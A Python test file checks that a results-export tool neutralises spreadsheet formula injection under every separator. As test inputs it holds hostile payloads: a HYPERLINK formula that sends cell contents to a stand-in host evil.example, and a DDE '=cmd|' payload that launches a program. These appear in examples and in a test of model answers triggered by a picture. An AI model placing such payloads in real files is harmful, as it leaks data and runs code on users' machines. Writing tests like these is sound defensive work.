"""No text of an export runs as a formula, whatever separator the file is opened with; and texts come back."""

import csv
import io
import re
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.person import Person
from support.pictures import picture
from support.some_results import result_of
from support.terminal import blobsight

from blobsight.results.export import new_file
from blobsight.results.formulas import guarded, unguarded
from localcloud.model import Answer

RUNS = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")  # noqa: RUF001
SEPARATORS = ",;\t|"
texts = st.text() | st.text(st.sampled_from("=+-@＝'\";,|\t\r\n\u2028 a1"))  # noqa: RUF001


def exported(path: Path, *answers: Any) -> str:
    """A CSV file of results with these answers, text or data."""
    with new_file(path) as export:
        for answer in answers:
            fields = {"text": answer} if isinstance(answer, str) else {"text": "{}", "data": answer}
            result = result_of("a.png").model_dump(mode="json")
            export.add({**result, "answer": {**result["answer"], **fields}})
        export.complete(lambda: None)
    return path.read_bytes().decode("utf-8-sig")


def cells(file: str, separator: str) -> list[str]:
    """All that a spreadsheet may take for a cell: by the rules of CSV, and with quotation marks that mean nothing."""
    by_rule = (cell for row in csv.reader(file.splitlines(keepends=True), delimiter=separator) for cell in row)
    blindly = re.split(f"[{re.escape(separator)}\r\n\v\f\x85\u2028\u2029]", file)
    return [*by_rule, *blindly]


def number(cell: str) -> bool:
    return re.fullmatch(r'"?-?[0-9.]+"?', cell) is not None


@given(texts)
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(st.text(st.characters(categories=["L", "N", "Zs"])))
def test_prose_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@given(st.lists(texts.filter(bool), min_size=1, max_size=3))
@example(['Thanks;=HYPERLINK("https://evil.example/?"&A1;"ok")'])
@example(["Thanks\t=1+1"])
@example(["Thanks\n=cmd|'/C calc'!A0"])
@example(['x";"=1+1'])
@example(["a;  ＝1"])  # noqa: RUF001
def test_no_cell_is_a_formula_with_any_separator(answers: list[str]) -> None:
    with TemporaryDirectory() as folder:
        file = exported(Path(folder, "a.csv"), *answers)
        with Path(folder, "a.csv").open(encoding="utf-8-sig", newline="") as opened:
            read = [unguarded(row["answer.text"]) for row in csv.DictReader(opened)]
    assert read == [answer.encode("utf-8", "backslashreplace").decode() for answer in answers]
    for separator in SEPARATORS:
        assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not number(cell)] == []


async def test_an_answer_of_the_models_runs_nowhere(person: Person, tmp_path: Path) -> None:
    """The whole way, from a picture that made the model say so to the file of a person."""
    texts = ['Thanks;=HYPERLINK("https://evil.example/?"&A1;"ok")', "Thanks\t=1+1", "=cmd|'/C calc'!A0"]
    for n, text in enumerate(texts):
        person.scripts[f"Formula {n}?"].append(Answer(text))
        await person.drop(f"formulas/{n}.png", picture(), {"instructions": f"Formula {n}?"})
        assert (await person.result(f"formulas/{n}.png"))["answer"]["text"] == text
    path = tmp_path / "answers.csv"
    ran = await blobsight(person, "results", "formulas/", "-o", str(path))
    assert ran.status == 0, ran.talk
    file = path.read_bytes().decode("utf-8-sig")
    assert [unguarded(row["answer.text"]) for row in csv.DictReader(io.StringIO(file, newline=""))] == texts
    for separator in SEPARATORS:
        assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not number(cell)] == []


@pytest.mark.parametrize("data", [{"=1+1": "x"}, {"a;=1": "x"}, {"list": ["a\t=1", ";=2"]}, {"a": {"b,=": "@SUM(1)"}}])
def test_nor_is_a_column_or_a_list(tmp_path: Path, data: Any) -> None:
    """Answers choose the names of columns, too."""
    file = exported(tmp_path / "a.csv", data)
    for separator in SEPARATORS:
        assert [cell for cell in cells(file, separator) if RUNS.match(cell) and not number(cell)] == []
